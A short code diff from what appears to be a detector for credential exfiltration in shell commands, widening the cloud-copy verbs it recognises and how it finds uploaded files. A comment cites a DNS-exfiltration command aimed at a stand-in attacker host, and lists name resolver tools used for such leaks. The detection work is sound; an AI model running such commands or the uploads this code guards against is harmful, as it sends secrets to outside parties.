@@ -52,7 +52,7 @@ _UPLOADS: dict[tuple[str, ...], frozenset[str]] = {
 }
 _UPLOADERS = frozenset(key[0] for key in _UPLOADS)
 # A cloud copy's verbs, after which its operands are sources then a destination.
-_COPY_VERBS = frozenset({"cp", "mv", "sync", "rsync", "copy", "copyto", "move", "moveto"})
+_COPY_VERBS = frozenset({"cp", "mv", "sync", "rsync", "copy", "copyto", "move", "moveto", "mirror"})
 # A name looked up carries what it is built from to the name servers (`dig $(…).evil.com`).
 _RESOLVERS = frozenset(
     {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "getent", "resolvectl"}
@@ -498,7 +498,7 @@ def _uploaded(name: str, args: Sequence[str], is_credential: Callable[[str], boo
             sent += [a.partition("=")[2] for a in args if a.partition("=")[0] in options]
         else:
             sent = found[len(key) - 1 :]
-            if key[1:] in (("cp",), ("mirror",), ("copy",)) and len(sent) > 1:
+            if key[-1] in _COPY_VERBS and len(sent) > 1:
                 sent = sent[:-1]  # the last is where they go
         return next((f for f in sent if is_credential(f.removeprefix("@"))), None)
     return None
